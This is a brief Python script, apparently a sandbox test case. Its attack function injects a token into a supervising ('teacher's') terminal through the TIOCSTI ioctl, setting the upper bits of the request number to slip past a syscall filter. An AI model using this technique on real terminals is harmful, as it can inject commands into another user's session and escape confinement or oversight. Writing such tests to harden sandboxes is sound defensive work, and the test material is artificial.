"""Types into the teacher's terminal with a command that is wrong in its upper half."""

# judge: heard
# needs: tiocsti

import ctypes
import os
import termios

libc = ctypes.CDLL(None, use_errno=True)
IOCTL = {"x86_64": 16, "aarch64": 29}[os.uname().machine]


def attack(ground):
    terminal = ctypes.c_long(os.open(ground["terminal"], os.O_RDWR))
    for sign in ground["token"]:
        if libc.syscall(IOCTL, terminal, ctypes.c_ulong(0xABCD << 32 | termios.TIOCSTI), sign.encode()):
            raise OSError(ctypes.get_errno(), "ioctl")
